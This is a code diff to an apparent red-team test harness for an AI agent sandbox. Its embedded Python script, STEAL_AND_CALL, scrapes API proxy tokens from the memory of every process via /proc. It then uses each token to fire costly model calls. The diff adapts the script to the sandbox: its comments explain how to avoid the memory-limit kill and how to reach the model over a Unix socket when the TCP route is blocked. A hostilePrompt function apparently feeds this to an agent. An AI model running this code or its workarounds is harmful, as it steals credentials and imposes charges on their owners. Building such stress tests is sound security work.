@@ -12,7 +12,7 @@ const TERMINAL = ['completed', 'failed', 'interrupted', 'timed_out'];
  * $1.50 a call), printing the status of each.
  */
 const STEAL_AND_CALL = `
-import os, re, json, urllib.request, urllib.error
+import os, re, json, socket, http.client
 pat = re.compile(rb'ccs-proxy-[A-Za-z0-9_-]{43}')
 tokens = set()
 for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
@@ -24,7 +24,9 @@ for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
     for line in maps:
         addr, perms = line.split()[:2]
         lo, hi = (int(x, 16) for x in addr.split('-'))
-        if 'r' not in perms:
+        # Only what the process wrote (rw private), and no huge reservation: reading those would
+        # fault in pages charged to the sandbox's memory limit, which then kills the CLI.
+        if not perms.startswith('rw') or hi - lo > (1 << 30):
             continue
         for offset in range(lo, hi, 1 << 22):
             try:
@@ -36,14 +38,21 @@ print('tokens found:', len(tokens))
 body = json.dumps({'model': 'claude-opus-4-1', 'max_tokens': 64,
   'tools': [{'name': 'Bash', 'description': 'run', 'input_schema': {'type': 'object', 'properties': {}}}],
   'messages': [{'role': 'user', 'content': '[[script:remember]] remember ' + 'x' * 400000}]}).encode()
+# The sandbox has no route to the proxy's TCP port: the model is behind the process's Unix socket.
+sock_path = os.environ.get('ANTHROPIC_UNIX_SOCKET') or '/run/agent-net/model.sock'
+class UnixConnection(http.client.HTTPConnection):
+    def connect(self):
+        self.sock = socket.socket(socket.AF_UNIX)
+        self.sock.connect(sock_path)
 for token in tokens:
     for attempt in range(CALLS):
-        req = urllib.request.Request(os.environ['ANTHROPIC_BASE_URL'] + '/v1/messages', data=body,
+        conn = UnixConnection('localhost')
+        conn.request('POST', '/v1/messages', body=body,
           headers={'x-api-key': token.decode(), 'content-type': 'application/json', 'anthropic-version': '2023-06-01'})
-        try:
-            print('raw call', urllib.request.urlopen(req).status)
-        except urllib.error.HTTPError as e:
-            print('raw call', e.code)
+        response = conn.getresponse()
+        response.read()
+        print('raw call', response.status)
+        conn.close()
 `;
 
 function hostilePrompt(calls: number): string {
